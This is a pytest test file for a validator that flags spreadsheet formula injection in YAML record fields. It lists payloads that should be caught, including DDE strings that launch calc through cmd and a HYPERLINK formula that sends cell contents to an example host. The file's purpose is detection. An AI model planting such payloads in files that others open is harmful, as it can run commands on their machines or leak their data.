"""Texts that a spreadsheet program would run."""

from __future__ import annotations

from pathlib import Path

import pytest

from communique import validate
from communique.reading import read_bytes

HEAD = (
    "schema_version: 0.2.0\nkind: announcement\nid: example\ntypes: [other]\nstatus: draft\n"
    "dates: [{role: announced, value: '2026-01-12', evidence: [{source: page}]}]\n"
)


def found(folder: Path, fields: str) -> list[str]:
    path = folder / "example.yaml"
    path.write_text(HEAD + fields)
    assert read_bytes(path.read_bytes(), "example.yaml").complete
    return [finding.pointer for finding in validate(path) if finding.code == "CQ615"]


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ('=HYPERLINK("https://example.org/?x="&A1,"Open")', True),
        ("=1+1", True),
        ("= SUM(A1)", True),
        ("=-A1", True),
        ("={1}", True),
        ("+CMD|' /C calc'!A0", True),
        ("-cmd|x!A1", True),
        ("+(1)", True),
        ("--A1", True),
        ("-2+3", True),
        ("-2+3+cmd|' /C calc'!D2", True),
        ("+44-20-7946", True),
        ("@SUM(1,1)", True),
        ("@A1", True),
        ("@[Name]", True),
        ("＝SUM(A1)", True),
        ("＋ＣＭＤ|x", True),
        ("＠SUM(1)", True),
        ("-12.5", False),
        ("+3", False),
        ("-1,000.5", False),
        ("-5%", False),
        ("+1 for AI", False),
        ("+44 20 7946 0000", False),
        ("- an item after a dash", False),
        ("-- an aside", False),
        ("@example on a network", False),
        ("=> see below", False),
        ("=====", False),
        ("– a dash", False),
        ("a=b", False),
        ("“=SUM(A1)”", False),
        ("'=SUM(A1)", False),
    ],
)
def test_what_a_spreadsheet_runs_and_what_not(text: str, runs: bool, tmp_path: Path) -> None:
    quoted = "'" + text.replace("'", "''") + "'"
    assert found(tmp_path, f"title: {{en: {quoted}}}\nsources: [{{id: page, type: news, access: excerpt}}]\n") == (
        ["/title/en"] if runs else []
    )


def test_every_text_that_comes_into_a_table_is_looked_at(tmp_path: Path) -> None:
    fields = (
        "title: {en: Example, fr: '=A1'}\nnote: '=A1'\n"
        "sources: [{id: page, type: news, access: excerpt, title: '=A1', authors: [Jane, '@A1'], note: '+x'}]\n"
        "quantities: [{subject: '-x', value: -3, comparator: exactly, unit: '=A1', "
        "evidence: [{source: page, note: '=A1'}]}]\n"
    )
    assert found(tmp_path, fields) == [
        "/title/fr",
        "/note",
        "/sources/0/title",
        "/sources/0/authors/1",
        "/sources/0/note",
        "/quantities/0/subject",
        "/quantities/0/unit",
        "/quantities/0/evidence/0/note",
    ]
